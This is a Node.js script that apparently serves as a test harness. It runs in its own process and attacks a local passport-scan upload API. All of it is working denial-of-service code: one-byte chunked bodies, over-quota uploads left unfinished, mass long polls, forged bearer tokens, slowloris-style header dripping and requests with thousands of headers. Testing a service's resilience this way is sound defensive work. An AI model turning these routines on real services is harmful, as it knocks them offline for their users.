// An attacker in a process of its own: `node attack.mjs <name> <JSON of url, tokens, png>`, until it is killed. Its
// connections come from an address of its own, 127.0.0.2; what is closed is tried again.
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';

const [, , name = '', text = '{}'] = process.argv;
const { url, tokens, scans } = JSON.parse(text);
const { hostname, port } = new URL(url);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const megabyte = 2 ** 20;

function open() {
  const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.2' });
  socket.on('error', () => {});
  return socket;
}

const head = (method, path, headers) =>
  `${method} ${path} HTTP/1.1\r\nHost: ${hostname}\r\n${Object.entries(headers)
    .map(([key, value]) => `${key}: ${value}\r\n`)
    .join('')}\r\n`;
const closed = (socket) => new Promise((resolve) => socket.once('close', resolve));
const flowing = (socket) =>
  new Promise((resolve) => {
    for (const event of ['drain', 'close']) socket.once(event, resolve);
  });

/** Writes `bytes` to a connection as fast as it takes them; stops where it ends. */
async function pour(socket, piece, bytes) {
  for (let sent = 0; sent < bytes && !socket.destroyed; sent += piece.length)
    if (!socket.write(piece)) await flowing(socket);
}

/** What was closed is tried again after a tenth of a second, by each of the many. */
const again = async (one) => {
  for (;;) {
    await one();
    await pause(100);
  }
};

/** A picture's beginning, as nobody refuses it. */
function pngHead() {
  const png = Buffer.alloc(33);
  png.write('\x89PNG\r\n\x1a\n', 0, 'latin1');
  png.writeUInt32BE(13, 8);
  png.write('IHDR', 12, 'latin1');
  png.writeUInt32BE(800, 16);
  png.writeUInt32BE(500, 20);
  png.set([8, 2, 0, 0, 0], 24);
  return png;
}

/** 1: bodies in chunks of one byte, half of them without a token. */
async function pieces(token) {
  const socket = open();
  const over = closed(socket);
  const headers = { 'Content-Type': 'image/png', 'Transfer-Encoding': 'chunked' };
  if (token) headers.Authorization = `Bearer ${token}`;
  socket.resume().write(head('POST', '/v1/scans?card=passport', headers));
  const start = pngHead();
  socket.write(`${start.length.toString(16)}\r\n`);
  socket.write(start);
  socket.write('\r\n');
  await pour(socket, Buffer.from('1\r\nx\r\n'.repeat(10_000)), 18 * megabyte);
  socket.destroy();
  await over;
}

/** 2: uploads of 18 MB under a used-up quota, each left one byte short of its end. */
async function overQuota(token) {
  const socket = open();
  const bytes = 18 * megabyte;
  const headers = {
    Authorization: `Bearer ${token}`,
    'Content-Type': 'image/png',
    'Content-Length': bytes,
    'Idempotency-Key': randomBytes(8).toString('hex'),
  };
  const over = closed(socket);
  socket.resume().write(head('POST', '/v1/scans?card=passport', headers));
  socket.write(pngHead());
  await pour(socket, Buffer.alloc(256 * 1024), bytes - 33 - 256 * 1024);
  await Promise.race([over, pause(30_000)]);
  socket.destroy();
}

/** 3: long polls about a hundred scans each, asked again as soon as they are answered. */
async function poll(token, ids) {
  const socket = open();
  const over = closed(socket);
  const headers = { Authorization: `Bearer ${token}`, Prefer: 'wait=25', Connection: 'close' };
  socket.resume().write(head('GET', `/v1/scans?ids=${ids.join()}`, headers));
  await over;
}

/** 4: without a token: forged ones, … */
async function forged() {
  const socket = open();
  const over = closed(socket);
  socket.resume();
  for (let sent = 0; sent < 200 && !socket.destroyed; sent += 1) {
    const part = () => randomBytes(90).toString('base64url');
    const token = `eyJhbGciOiJIUzI1NiIsInR5cCI6InNjYW5maWxsLXNlc3Npb24rand0In0.${part()}.${randomBytes(32).toString('base64url')}`;
    if (!socket.write(head('GET', '/v1/scans/abc', { Authorization: `Bearer ${token}` }))) await flowing(socket);
    await pause(1);
  }
  socket.end();
  await Promise.race([over, pause(1_000)]);
  socket.destroy();
}

/** … connections that never end their headers, … */
async function slowHeaders() {
  const socket = open();
  const over = closed(socket);
  socket.write('GET /v1/scans HTTP/1.1\r\nHost: x\r\nX-Slow: ');
  const drip = setInterval(() => socket.write('x'), 1_000);
  await over;
  clearInterval(drip);
}

/** … and thousands of headers. */
async function manyHeaders() {
  const socket = open();
  const over = closed(socket);
  const headers = Object.fromEntries(Array.from({ length: 1_300 }, (_, index) => [`x${index}`, 'y']));
  socket.resume().write(head('GET', '/v1/scans/abc', headers));
  await Promise.race([over, pause(200)]);
  socket.destroy();
}

const times = (count, one) => Array.from({ length: count }, (_, index) => again(() => one(index)));

const attacks = {
  pieces: () => times(8, (index) => pieces(index % 2 === 0 ? undefined : tokens[0])),
  quota: () => times(60, () => overQuota(tokens[0])),
  polls: () => times(450, (index) => poll(tokens[index % tokens.length], scans[index % tokens.length])),
  strangers: () => [...times(16, forged), ...times(1_000, slowHeaders), ...times(16, manyHeaders)],
};
await Promise.all(attacks[name]());
